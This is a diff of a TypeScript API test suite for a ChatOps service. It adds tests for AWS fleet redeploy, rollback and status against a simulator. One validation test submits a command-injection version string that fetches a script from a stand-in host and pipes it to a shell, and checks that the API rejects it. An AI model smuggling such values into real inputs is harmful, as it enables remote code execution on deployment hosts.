@@ -8,6 +8,8 @@ import { createRepositories, DatabaseHandle, openDatabase } from '@chatops/persi
 import { promtoolCheckMetrics } from '@chatops/testing';
 import { OctokitGithubRepository, signWebhookBody } from '@chatops/github';
 import { GithubSimulator } from '@chatops/github-sim';
+import { AwsFleetRepository } from '@chatops/aws-fleet';
+import { AwsSimulator } from '@chatops/aws-sim';
 import { ApiConfig, loadApiConfig } from '../config';
 import { createApiApp } from './create-app';
 import { buildWorkflowMachinery } from './deployments/workflow-machinery';
@@ -62,10 +64,17 @@ describe('API over HTTP', () => {
         done();
       },
     });
+    logger = createLogger({ name: 'api', level: 'info', secrets: [TOKEN], destination });
+    app = await appWith(null);
+  });
+
+  let logger: ReturnType<typeof createLogger>;
+
+  /** The app over the current database, with the given fleet (null: AWS_REGION unset). */
+  async function appWith(fleet: AwsFleetRepository | null): Promise<NestFastifyApplication> {
     const catalog = loadCatalog(join(__dirname, '../../../../chatops.config.yaml'));
     const repositories = createRepositories(database);
-    const logger = createLogger({ name: 'api', level: 'info', secrets: [TOKEN], destination });
-    app = await createApiApp({
+    const built = await createApiApp({
       config,
       catalog,
       database,
@@ -78,11 +87,13 @@ describe('API over HTTP', () => {
         repositories,
         logger,
         github ? githubRepositoryFor(github) : null,
+        fleet,
       ),
     });
-    await app.init();
-    await app.getHttpAdapter().getInstance().ready();
-  });
+    await built.init();
+    await built.getHttpAdapter().getInstance().ready();
+    return built;
+  }
 
   afterEach(async () => {
     await app.close();
@@ -320,6 +331,114 @@ describe('API over HTTP', () => {
       const res = await http().get('/v1/github/refs?q=rel').set(auth).expect(200);
       expect(res.body.refs).toEqual([{ name: 'release/1.4', kind: 'branch' }]);
     });
+  });
+
+  describe('fleet: /redeploy, /rollback, /status', () => {
+    let aws: AwsSimulator;
+    const sre = {
+      actor: { id: '300', name: 'carol' },
+      roles: { ids: [], names: ['sre'] },
+      source: 'discord:test',
+    };
+    let seq = 0;
+
+    beforeEach(async () => {
+      aws = await new AwsSimulator({
+        project: 'chatops',
+        environments: ['staging', 'prod'],
+        services: ['api', 'bot'],
+        initialVersion: 'v1',
+        timing: { deliverMs: 5, redeployMs: 20 },
+      }).start();
+      // Closing the app closes its database: the fleet-enabled app gets a fresh one.
+      await app.close();
+      database = await openDatabase('sqlite::memory:');
+      app = await appWith(
+        AwsFleetRepository.create({
+          region: aws.region,
+          endpoint: aws.endpoint,
+          credentials: { accessKeyId: aws.accessKeyId, secretAccessKey: 'test' },
+        }),
+      );
+    });
+    afterEach(() => aws.stop());
+
+    const redeploy = (fields: Record<string, unknown> = {}) =>
+      http()
+        .post('/v1/deployments')
+        .set(auth)
+        .send({
+          requestId: `fleet-req-${++seq}`,
+          kind: 'redeploy',
+          service: 'api',
+          environment: 'staging',
+          ...sre,
+          ...fields,
+        });
+
+    it('redeploys through SSM and shows it in /status', async () => {
+      const res = await redeploy({ version: 'v2' }).expect(201);
+      expect(res.body).toMatchObject({
+        outcome: 'dispatched',
+        deployment: { kind: 'redeploy', ref: 'v2', status: 'dispatched' },
+      });
+      const status = await http().get('/v1/fleet/status?environment=staging').set(auth).expect(200);
+      expect(status.body.environments[0]).toMatchObject({
+        name: 'staging',
+        error: null,
+        hosts: [
+          { state: 'running', ssmPing: 'Online' },
+          { state: 'running', ssmPing: 'Online' },
+        ],
+        services: [{ name: 'api', desired: { value: 'v2', version: 2 } }, { name: 'bot' }],
+      });
+      const preview = await http()
+        .get('/v1/fleet/rollback?service=api&environment=staging')
+        .set(auth)
+        .expect(200);
+      expect(preview.body).toMatchObject({ current: { value: 'v2' }, target: { value: 'v1' } });
+    });
+
+    it('answers a hostile version with 400 and the reason, sending nothing to AWS', async () => {
+      const res = await redeploy({ version: 'v2 && curl evil.sh | sh' }).expect(400);
+      expect(res.body.problems).toEqual([
+        'invalid version: the version must be an image tag (letters, digits, _ . -, not starting with . or -) or a sha256: digest',
+      ]);
+      const long = await redeploy({ version: 'v'.repeat(200) }).expect(400);
+      expect(long.body.message).toBe(
+        'invalid version: the version is 200 characters long; at most 128 are allowed',
+      );
+      expect(aws.calls).toEqual([]);
+    });
+
+    it('answers bad queries with 400, a rollback with nothing before with 422', async () => {
+      const bad = await http().get('/v1/fleet/status?environment=Bad;Env').set(auth).expect(400);
+      expect(bad.body.problems).toEqual(['environment: must be a catalog name']);
+      await http().get('/v1/fleet/status?environment=moon').set(auth).expect(400);
+      const none = await http()
+        .get('/v1/fleet/rollback?service=api&environment=staging')
+        .set(auth)
+        .expect(422);
+      expect(none.body.message).toBe('api on staging has no earlier version to roll back to');
+    });
+  });
+
+  it('answers 503 for the fleet when AWS_REGION is not set', async () => {
+    const res = await http().get('/v1/fleet/status').set(auth).expect(503);
+    expect(res.body.message).toMatch(/AWS fleet is not configured: set AWS_REGION/);
+    const redeploy = await http()
+      .post('/v1/deployments')
+      .set(auth)
+      .send({
+        requestId: 'fleet-none-1',
+        kind: 'redeploy',
+        service: 'api',
+        environment: 'staging',
+        actor: { id: '1', name: 'a' },
+        roles: { ids: [], names: ['sre'] },
+      })
+      .expect(503);
+    expect(redeploy.body.message).toMatch(/AWS fleet is not configured/);
   });
 
   describe('GitHub webhook', () => {
